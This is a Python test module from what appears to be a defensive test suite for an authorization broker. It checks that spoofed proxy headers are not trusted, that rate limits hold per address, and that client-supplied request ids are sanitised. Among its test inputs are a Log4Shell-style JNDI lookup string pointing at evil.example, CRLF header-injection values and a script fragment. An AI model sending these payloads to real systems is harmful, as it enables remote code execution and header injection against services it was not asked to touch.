"""Headers that only a proxy of ours may set, and the request's id."""

import re
import sys

from tests.hostile.cases import APP, CANARY, Story, asks, unparsable
from tests.hostile.setting import STRICT_FAILURES, TRUSTED
from tests.hostile.tables.authorization import GOOD, good
from tests.hostile.tables.origins import refused

UNKNOWN = "Authorization: Bearer unknown-token-of-nobody"
CLAIMS = (
    "X-Forwarded-For: 10.1.2.3",
    "X-Forwarded-For: 127.0.0.1",
    "X-Forwarded-Proto: https",
    "X-Forwarded-Host: evil.example",
    "X-Forwarded-Port: 1",
    "X-Forwarded-Prefix: /v1",
    "Forwarded: for=10.1.2.3;host=evil.example;proto=https",
    "X-Real-IP: 10.1.2.3",
    "X-User-Id: bob",
    "X-Remote-User: bob",
    "X-Original-URL: /v1/users",
    "X-Rewrite-URL: /v1/users",
    "X-Broker-Assertion: x.y.z",
    "X-Envoy-External-Address: 10.1.2.3",
    "True-Client-IP: 10.1.2.3",
    "CF-Connecting-IP: 10.1.2.3",
    "X-Client-Cert: x",
    "Via: 1.1 evil",
    f"X-Forwarded-For: {CANARY}",
    "X-Forwarded-For: " + "1.1.1.1, " * 2000 + "1.1.1.1",
)
IDS = (
    CANARY * 800,
    "a" * 65,
    "a b",
    "${jndi:ldap://evil.example/a}",
    "\x1b[31mred",
    "a/b",
    "a:b",
    "a;b",
    "<script>",
    '"',
    "'",
    "\u017c",
    "\\n",
    "%0d%0aX:1",
    "",
)
_SOURCES = iter(f"127.0.0.{number}" for number in range(20, 250))


def _limited(what, *lines_of_each, source=None, expected=429):
    """Return a story: more unknown tokens than one address may show; the last answer tells whose they are."""
    source = source or next(_SOURCES)

    async def play(town):
        for number in range(STRICT_FAILURES + 1):
            lines = [line.replace("#", str(number)) for line in lines_of_each]
            answer = await town.ask("public", UNKNOWN, *lines, process="strict", source=source)
        return (
            [] if answer.status == expected else [f"the last answer is {answer.status}, expected {expected}"]
        )

    return Story("H60", what, play)


async def _good_beside_bad(town):
    """A good token is answered though its address has shown too many unknown ones."""
    source = next(_SOURCES)
    for _ in range(STRICT_FAILURES + 2):
        refused = await town.ask("public", UNKNOWN, process="strict", source=source)
    kept = await town.ask(
        "public", f"Authorization: Bearer {town.names['ann']}", process="strict", source=source
    )
    said = refused.of("Retry-After")
    found = (
        []
        if refused.status == 429 and said and int(said[0]) >= 1
        else [f"got {refused.status}, Retry-After {said}"]
    )
    return found + ([] if kept.status == 200 else [f"the good token got {kept.status}"])


def _own_id(text):
    """Return a story: the id that was sent is replaced by one of ours."""

    async def play(town):
        answer = await town.ask("public", f"X-Request-Id: {text}")
        (used,) = answer.of("X-Request-Id")
        return [] if re.fullmatch("[0-9a-f]{16}", used) else [f"the id is {used[:80]}"]

    return Story("H61", f"the id {text[:20]!r}", play)


# Other addresses of this machine can be taken on Linux only.
ADDRESSES = (
    [
        _limited("a stranger who names another address each time", "X-Forwarded-For: 10.0.0.#"),
        _limited(
            "a stranger who names one in each form",
            "Forwarded: for=10.0.0.#",
            "X-Real-IP: 10.0.0.#",
            "True-Client-IP: 10.0.0.#",
        ),
        _limited("our proxy, for four browsers", "X-Forwarded-For: 10.0.1.#", source=TRUSTED, expected=401),
        _limited("our proxy, for one browser", "X-Forwarded-For: 10.0.2.1", source=TRUSTED),
        _limited(
            "our proxy, for a browser that makes up hops",
            "X-Forwarded-For: 10.9.9.#, 10.0.3.1",
            source=TRUSTED,
        ),
        _limited(
            "our proxy, for a browser that makes up a line",
            "X-Forwarded-For: 10.9.8.#",
            "X-Forwarded-For: 10.0.4.1",
            source=TRUSTED,
        ),
        _limited("our proxy, for one network of IPv6", "X-Forwarded-For: 2001:db8::#", source=TRUSTED),
        Story("H60", "a good token from an address with too many bad ones", _good_beside_bad),
    ]
    if sys.platform == "linux"
    else []
)
CASES = [
    *(good("H60", claim[:60], GOOD, claim) for claim in CLAIMS),
    *(
        refused(
            "H60",
            f"the origin that {header} claims",
            GOOD,
            header,
            "X-Forwarded-Proto: https",
            "Origin: https://evil.example",
        )
        for header in (
            "X-Forwarded-Host: evil.example",
            "X-Original-Host: evil.example",
            "Forwarded: host=evil.example;proto=https",
        )
    ),
    refused(
        "H60",
        "an origin by the wrong scheme of our host",
        GOOD,
        "X-Forwarded-Proto: https",
        "Origin: https://broker.test",
    ),
    good("H60", "our own origin", GOOD, "Origin: http://broker.test"),
    *ADDRESSES,
    asks(
        "H61",
        "an id in the right form",
        401,
        "bearer_missing",
        "X-Request-Id: ab.C-1_2",
        has=("X-Request-Id: ab.C-1_2",),
    ),
    asks(
        "H61",
        "an id in the right form, of a page",
        401,
        "bearer_missing",
        "X-Request-Id: a",
        f"Origin: {APP}",
        has=("X-Request-Id: a",),
        origin=APP,
    ),
    asks(
        "H61",
        "the longest id",
        401,
        "bearer_missing",
        f"X-Request-Id: {'a' * 64}",
        has=(f"X-Request-Id: {'a' * 64}",),
    ),
    *(_own_id(text) for text in IDS if "\x1b" not in text),
    unparsable("H61", "an id of colours", "X-Request-Id: \x1b[31mred"),
    unparsable("H61", "an id with a line break", "X-Request-Id: a\rX-Injected: 1"),
]
